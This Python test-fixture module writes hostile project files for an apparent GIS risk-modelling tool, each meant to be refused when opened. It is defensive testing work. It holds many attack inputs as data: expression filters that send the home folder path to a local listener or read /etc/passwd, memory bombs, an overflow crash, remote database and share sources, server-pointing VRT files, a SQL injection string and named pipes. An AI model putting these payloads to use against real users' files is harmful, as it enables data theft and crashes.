"""Studies that somebody hostile might send: each does harm where a study is opened carelessly.

`write_study(number, folder, port)` writes one into an empty folder; `port` is that of a listener on
this computer, which must never hear anything. Standard library alone, so that tools can use it.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from . import hostile_files as files

SAMPLE = Path(__file__).resolve().parent.parent.parent / "resources" / "sample"
LAYERS = ("boundary", "incidents_2024", "pubs")
VALUES = "is not of the feature's values alone"
REMAINDER = "has a % that no number above 0 follows"
BEYOND = "would be read from"
PLACES = ("study_area", "incidents", "factor")


@dataclass(frozen=True)
class Hostile:
    """What is hostile about a study, what its refusal says, and what makes it."""

    about: str
    said: str
    make: Callable[[dict, Path, str], None]  # changes the study; the text is the listener's address

    @property
    def asks(self) -> bool:
        """Whether the wizard asks before it opens the study."""
        return self.said == BEYOND


def write_study(number: int, folder: Path, port: int) -> Path:
    """Write hostile study `number` (0 to len(HOSTILE) - 1) and its layers; return its path."""
    for name in LAYERS:
        shutil.copy(SAMPLE / f"{name}.geojson", folder)
    study = {
        "schema": "rtm-study/1",
        "title": "Saltmarsh",
        "study_area": {"source": "boundary.geojson"},
        "grid": {"block_length": 120},
        "incidents": {"source": "incidents_2024.geojson"},
        "factors": [{"name": "Pubs", "source": "pubs.geojson"}],
    }
    HOSTILE[number].make(study, folder, f"127.0.0.1:{port}")
    path = folder / "study.json"
    path.write_text(json.dumps(study), encoding="utf-8")  # half letters as escapes
    return path


def _part(study: dict, place: str) -> dict:
    return study["factors"][0] if place == "factor" else study.setdefault(place, {})


def _filtered(about: str, text: str, said: str = VALUES, place: str = "incidents") -> Hostile:
    """Return a study with a filter; ADDRESS in it is the listener's."""

    def make(study, _folder, address):
        _part(study, place)["filter"] = text.replace("ADDRESS", address)

    return Hostile(about, said, make)


def _sourced(about: str, source: str, place: str = "factor") -> Hostile:
    """Return a study with a source; ADDRESS in it is the listener's, HOST and PORT its parts."""

    def make(study, _folder, address):
        host, port = address.split(":")
        text = source.replace("ADDRESS", address).replace("HOST", host).replace("PORT", port)
        _part(study, place)["source"] = text

    return Hostile(about, BEYOND, make)


def _with_file(about: str, name: str, content: str, place: str = "factor") -> Hostile:
    """Return a study one of whose files is not what it seems."""

    def make(study, folder, address):
        (folder / name).write_text(content.replace("ADDRESS", address), encoding="utf-8")
        _part(study, place)["source"] = name

    return Hostile(about, BEYOND, make)


def _changed(about: str, said: str, change: Callable[[dict], None]) -> Hostile:
    return Hostile(about, said, lambda study, _folder, _address: change(study))


def _beside_itself(study, folder, address):
    """A source that has a namesake beside the study, but is not opened from there."""
    namesake = folder / "http:" / address
    namesake.mkdir(parents=True)
    shutil.copy(folder / "pubs.geojson", namesake)
    study["factors"][0]["source"] = f"ogr://http://{address}/pubs.geojson"


def _pipe(study, folder, _address):
    os.mkfifo(folder / "bars.geojson")
    study["factors"][0]["source"] = "bars.geojson"


def _link_to_pipe(study, folder, _address):
    os.mkfifo(folder / "hidden")
    (folder / "bars.geojson").symlink_to("hidden")
    study["study_area"]["source"] = "bars.geojson"


def _pipe_beside(study, folder, _address):
    (folder / "bars.shp").write_bytes(b"\0\0\x27\x0a" + b"\0" * 96)
    os.mkfifo(folder / "bars.dbf")
    study["factors"][0]["source"] = "bars.shp"


def _pipe_in_text(study, folder, _address):
    os.mkfifo(folder / "bars.csv")
    study["incidents"]["source"] = f"delimitedtext://file://{folder}/bars.csv?type=csv&xField=x"


REMOTE = "'/vsicurl/http://ADDRESS/' || env('HOME') || '.geojson'"
NOT_A_FILE = "and no file"

HOSTILE: tuple[Hostile, ...] = (
    # filters
    _filtered("sends the home folder", f"load_layer({REMOTE}, 'ogr') IS NULL", "The filter"),
    _filtered("reads the environment", "env('HOME') LIKE 'x%'"),
    _filtered("evaluates a text", "eval('en' || 'v(''HOME'')') IS NOT NULL", place="factor"),
    _filtered("evaluates a template", "eval_template('[% env(''HOME'') %]') <> ''"),
    _filtered("hides in a branch", "CASE WHEN 1 = 0 THEN array(1)[file_size('/etc/hosts')] END"),
    _filtered("looks into files", "file_exists('/etc/passwd')", place="factor"),
    _filtered("reads a picture's notes", "exif('http://ADDRESS/a.jpg') IS NULL"),
    _filtered("reads another layer", "aggregate('http://ADDRESS/a.geojson', 'count', 1) > 0"),
    _filtered("reads a raster", "raster_value('/vsicurl/http://ADDRESS/a.tif', 1, $geometry) > 0"),
    _filtered("asks about the user", "@user_full_name <> ''"),
    _filtered("asks about the user by a name made up", "var('user' || '_account_name') <> ''"),
    _filtered("writes into a file", "sqlite_fetch_and_increment('a.db', 't', 'i', 'f', 1) > 0"),
    _filtered("is a bomb of memory", "length(lpad('a', 2000000000, 'b')) > 0"),
    _filtered("is a bomb of lists", "array_length(generate_series(1, 9999999999)) > 0"),
    _filtered("is another tomorrow", "rand(0, 1) = 1"),
    _filtered("has 20,000 terms", " OR ".join(['"name" = 1'] * 20_000), "50,000 letters"),
    _filtered("has 20,000 short terms", "1" + "+1" * 20_000, "words and signs", "factor"),
    _filtered("takes for ever to read", "abs(" * 40 + "1" + ")" * 40, "inside one another"),
    _filtered("is a megabyte", f"\"name\" IN ('{'x' * 1_000_000}')", "50,000 letters", "factor"),
    _filtered("ends the program", "to_int('-9223372036854775808') % -1 = 0", REMAINDER),
    _filtered("ends it by a field", '"n" % "m" = 0', REMAINDER, "factor"),
    # servers and databases
    _sourced("a file on a server", "http://ADDRESS/pubs.geojson"),
    _sourced("the same in capitals", "HTTP://ADDRESS/pubs.geojson", "study_area"),
    _sourced("a file through GDAL", "/vsicurl/http://ADDRESS/pubs.geojson", "incidents"),
    _sourced("an archive on a server", "/vsizip//vsicurl/http://ADDRESS/pubs.zip"),
    _sourced("a table on a server", "CSV:/vsicurl/http://ADDRESS/pubs.csv"),
    _sourced("a service through GDAL", "WFS:http://ADDRESS/wfs", "study_area"),
    _sourced("a newer service through GDAL", "OAPIF:http://ADDRESS/oapif", "incidents"),
    _sourced("a service", "wfs://url='http://ADDRESS/wfs' typename='pubs' version='1.1.0'"),
    _sourced("a newer service", "OAPIF://url='http://ADDRESS/oapif' typename='pubs'"),
    _sourced("a service of another maker", "arcgisfeatureserver://url='http://ADDRESS/0'"),
    _sourced("names on a server", "/vsicurl/http://ADDRESS/wards.gpkg", "names"),
    _sourced("names of a service", "wfs://url='http://ADDRESS/wfs' typename='wards'", "names"),
    _sourced("names in a database", "postgres://host=HOST port=PORT dbname='x'", "names"),
    _sourced("a database", "postgres://host=HOST port=PORT dbname='x' table=\"pubs\" (geom)"),
    _sourced("a database through GDAL", "PG:host=HOST port=PORT dbname=x", "incidents"),
    _sourced("another database", "mssql://host=HOST,PORT dbname='x' table=\"pubs\" (geom)"),
    _sourced("a text on a server", "delimitedtext://http://ADDRESS/pubs.csv?type=csv"),
    _sourced("a computer beside this one", "//HOST/share/pubs.geojson"),
    # files that point on, and queries
    _with_file("a virtual layer", "pubs.vrt", files.VRT),
    _with_file("a virtual layer that is called a table", "bars.csv", files.VRT),
    _with_file(
        "a virtual layer far into a table", "bars.txt", "a,b\n" * 200 + files.VRT, "incidents"
    ),
    Hostile("a virtual layer in an archive", BEYOND, files.zipped),
    _sourced("a virtual layer in the study itself", files.VRT),
    _sourced("a query over layers", "virtual://?query=SELECT 1&layer=ogr:http://ADDRESS/a:b"),
    _with_file("a coordinate system from a server", "bars.geojson", files.GEOJSON),
    _with_file("a schema from a server", "bars.gml", files.GML, "study_area"),
    Hostile("a schema that includes a server's", BEYOND, files.included),
    Hostile("a namesake of a file on a server", BEYOND, _beside_itself),
    _with_file("a service in a file", "bars.xml", "<OGRWFSDataSource><URL>http://ADDRESS/</URL>"),
    _sourced(
        "a query in a source",
        "pubs.geojson|subset=SELECT * FROM pubs JOIN '/vsicurl/http://ADDRESS/a.csv'.a ON 1 = 1",
    ),
    _sourced(
        "a query hidden in a text", "pubs.geojson|subset=\"name\" = '\\' OR f(1) OR ''='' --'"
    ),
    *(Hostile(about, BEYOND, make) for about, make in files.OTHERS.items()),
    # what no file is
    Hostile("a pipe", NOT_A_FILE, _pipe),
    Hostile("a link to a pipe", NOT_A_FILE, _link_to_pipe),
    Hostile("a pipe beside a layer", NOT_A_FILE, _pipe_beside),
    Hostile("a pipe as a table", NOT_A_FILE, _pipe_in_text),
    _changed("a device", NOT_A_FILE, lambda study: study["incidents"].update(source="/dev/zero")),
    # texts
    _changed("half a letter", "no file can hold", lambda study: study.update(title="\ud800")),
    _changed(
        "half a letter in a filter",
        "no file can hold",
        lambda study: study["incidents"].update(filter="'\udfff' = 'a'"),
    ),
    _changed(
        "an end within a path",
        "no file can hold",
        lambda study: study["study_area"].update(source="boundary.geojson\0.txt"),
    ),
    _changed(
        "two factors of one name",
        "Two factors are called “Pubs”",
        lambda study: study["factors"].append({"name": " Pubs\t", "source": "pubs.geojson"}),
    ),
    _changed(
        "a page for a title",
        "The title has 300,000 letters",
        lambda study: study.update(title="<b>" * 100_000),
    ),
)
